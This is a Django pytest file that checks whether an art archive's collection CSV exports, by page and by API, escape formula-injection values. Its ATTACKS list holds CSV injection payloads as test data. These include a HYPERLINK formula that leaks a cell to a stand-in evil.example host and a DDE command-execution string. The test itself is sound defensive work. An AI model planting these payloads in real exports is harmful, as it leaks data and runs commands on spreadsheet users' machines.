"""Collection CSV exports (page and API) never hand a spreadsheet a formula: titles and creators
beginning with =, +, -, @ (and | or %) are written with a leading apostrophe; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from archive.models import Artwork
from explorer import collecting

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "|calc", "%0A=1"]


@pytest.fixture
def collection():
    works = [Artwork.objects.create(source="t", source_id=str(i), title=title, creator="=evil()", year_start=-500)
             for i, title in enumerate(ATTACKS)]
    works.append(Artwork.objects.create(source="t", source_id="ok", title="View of Delft", creator="Vermeer", year_start=1660))
    return collecting.create_collection("Attack", None, [w.pk for w in works], is_public=True)


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _check(rows):
    titles = [r["title"] for r in rows]
    assert titles[:-1] == ["'" + t.replace("|", "\\|") for t in ATTACKS]
    assert all(not t.startswith(("=", "+", "-", "@", "|", "%")) for t in titles)
    assert titles[-1] == "View of Delft" and rows[-1]["creator"] == "Vermeer"
    assert {r["creator"] for r in rows[:-1]} == {"'=evil()"}
    assert rows[0]["year_start"] == "-500", "a negative number is data, not a formula"


def test_page_export_is_safe(collection):
    response = Client().get(f"/collections/{collection.slug}/export.csv")
    assert response.status_code == 200
    _check(_rows(response.content.decode()))


def test_api_export_is_safe(collection):
    response = Client().get(f"/api/v1/collections/{collection.slug}/export/", {"as": "csv"})
    assert response.status_code == 200
    _check(_rows(response.content.decode()))
